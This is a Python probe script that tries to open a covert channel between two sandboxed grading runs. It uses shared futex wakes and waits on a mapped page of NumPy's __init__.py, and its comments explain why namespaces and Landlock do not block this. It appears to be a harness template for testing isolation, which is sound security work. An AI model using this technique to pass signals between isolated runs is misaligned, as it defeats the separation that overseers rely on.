# Attack: two gradings at once (a batch's two slots), one waking and one waiting on a futex in a page of a file
# both can read (NumPy's __init__.py, mapped shared). The kernel keys a shared futex in a file page by the
# file's inode and offset, so users, namespaces and Landlock domains do not keep the two apart: a wake is a
# message. With __ROLE__ "send" this grading wakes the word for 8 s in every way it can: FUTEX_WAKE shared and
# private, and threads whose clear-child-tid word (which the kernel wakes, shared, as each thread ends) is that
# word. With "receive" it waits on the word, shared and private, five times each, 1.6 s a wait, and records each
# wait's errno: 110 ran out its time, 11 was refused, 0 was woken (a message got through).
import _thread
import ctypes as _ct
import os as _fos
import time as _ftime

import numpy as _fnp

_flibc = _ct.CDLL(None, use_errno=True)
_flibc.mmap.restype = _ct.c_void_p
_flibc.mmap.argtypes = [_ct.c_void_p, _ct.c_size_t, _ct.c_int, _ct.c_int, _ct.c_int, _ct.c_long]
_flibc.syscall.restype = _ct.c_long
_FUTEX, _SET_TID_ADDRESS = {"x86_64": (202, 218), "aarch64": (98, 96)}[_fos.uname().machine]
_PRIVATE = 128


class _Timespec(_ct.Structure):
    _fields_ = [("seconds", _ct.c_long), ("nanoseconds", _ct.c_long)]


_fd = _fos.open(_fos.path.join(_fos.path.dirname(_fnp.__file__), "__init__.py"), _fos.O_RDONLY)
_page = _flibc.mmap(None, 4096, 1, 1, _fd, 0)  # PROT_READ, MAP_SHARED


def _wait(seconds, flags):
    expected = _ct.c_int.from_address(_page).value
    timeout = _Timespec(int(seconds), int((seconds % 1) * 1e9))
    result = _flibc.syscall(_FUTEX, _ct.c_void_p(_page), 0 | flags, expected, _ct.byref(timeout), None, 0)  # FUTEX_WAIT
    return _ct.get_errno() if result < 0 else 0


def _wake(flags):
    return _flibc.syscall(_FUTEX, _ct.c_void_p(_page), 1 | flags, 1000, None, None, 0)  # FUTEX_WAKE: how many woke


def _ending_on_the_word():
    _flibc.syscall(_SET_TID_ADDRESS, _ct.c_void_p(_page))  # the kernel wakes this word when the thread ends


if "__ROLE__" == "send":
    _woken, _started, _round = 0, _ftime.monotonic(), 0
    while _ftime.monotonic() - _started < 8:
        _woken += max(_wake(0), 0) + max(_wake(_PRIVATE), 0)
        if _round % 20 == 0:  # a thread's stack is never reused once its word is elsewhere: 40 in all fit the limits
            _thread.start_new_thread(_ending_on_the_word, ())
        _round += 1
        _ftime.sleep(0.01)
    _probe("futex sender", lambda: f"woke {_woken}")
else:
    _shared = [_wait(1.6, 0) for _ in range(5)]
    _private = [_wait(1.6, _PRIVATE) for _ in range(5)]
    _probe("futex receiver", lambda: f"shared {sorted(set(_shared))} private {sorted(set(_private))}")
